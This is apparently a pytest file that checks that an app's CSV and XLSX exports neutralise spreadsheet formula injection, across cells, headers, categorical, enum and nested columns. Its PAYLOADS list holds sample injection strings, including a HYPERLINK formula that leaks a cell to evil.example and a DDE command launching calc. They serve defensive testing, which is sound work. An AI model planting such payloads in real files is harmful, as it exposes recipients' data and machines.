"""Exports stay inert in a spreadsheet: no formula, link or number conversion from outsiders' text,
in cells or in headers, for every text type a frame can carry — checked in the written files."""

from __future__ import annotations

import io
import re
import zipfile

import polars as pl
import pytest

from app.spreadsheet import csv_bytes, neutralise_formula, neutralise_formulas, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\n@x",
]
HARMLESS = ["plain", "a=b", "e-mail: x@y.ru", "NPS −12", "", "http://example.com", "0012"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_every_trigger_is_escaped_in_the_cell_and_the_frame(value):
    assert neutralise_formula(value) == "'" + value
    assert neutralise_formulas(pl.DataFrame({"c": [value]}))["c"][0] == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_left_alone(value):
    assert neutralise_formula(value) == value
    assert neutralise_formulas(pl.DataFrame({"c": [value]}))["c"][0] == value


def test_categorical_enum_nested_columns_and_headers_are_escaped():
    frame = pl.DataFrame(
        {
            "cat": pl.Series(["=1+1", "ok"], dtype=pl.Categorical),
            "enum": pl.Series(["@x", "ok"], dtype=pl.Enum(["@x", "ok"])),
            "=client name": ["a", "b"],
            "nps": [-10, 5],
        }
    )
    safe = neutralise_formulas(frame)
    assert safe.columns == ["cat", "enum", "'=client name", "nps"]
    assert safe["cat"].to_list() == ["'=1+1", "ok"] and safe["enum"].to_list() == ["'@x", "ok"]
    assert safe["nps"].to_list() == [-10, 5]
    nested = pl.DataFrame({"tags": [["=1+1", "b"]], "point": [{"x": "@y"}]})
    assert csv_bytes(nested).decode("utf-8-sig").splitlines()[1] == '\'=1+1; b,"{""x"":""@y""}"'


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml", n)]
        return "".join(archive.read(n).decode("utf-8") for n in sheets)


def test_xlsx_has_no_formula_no_hyperlink_and_keeps_text_as_text():
    frame = pl.DataFrame(
        {"comment": [*PAYLOADS, "http://evil.example", "0012"], "n": list(range(len(PAYLOADS) + 2))}
    )
    data = xlsx_bytes(frame, sheet_name="comments: [all]?")
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml, "a cell was written as a formula"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [
            n
            for n in archive.namelist()
            if "hyperlink" in archive.read(n).decode("utf-8", "ignore") and n.endswith(".rels")
        ]
    back = pl.read_excel(io.BytesIO(data))
    assert back["comment"].to_list()[-1] == "0012"  # not turned into the number 12
    assert all(v.startswith("'") for v in back["comment"].to_list()[: len(PAYLOADS)])


def test_csv_cells_start_with_an_apostrophe_when_they_would_run():
    text = csv_bytes(pl.DataFrame({"comment": ["=1+1", "fine"], "n": [-3, 4]})).decode("utf-8-sig")
    assert text.splitlines() == ["comment,n", "'=1+1,-3", "fine,4"]
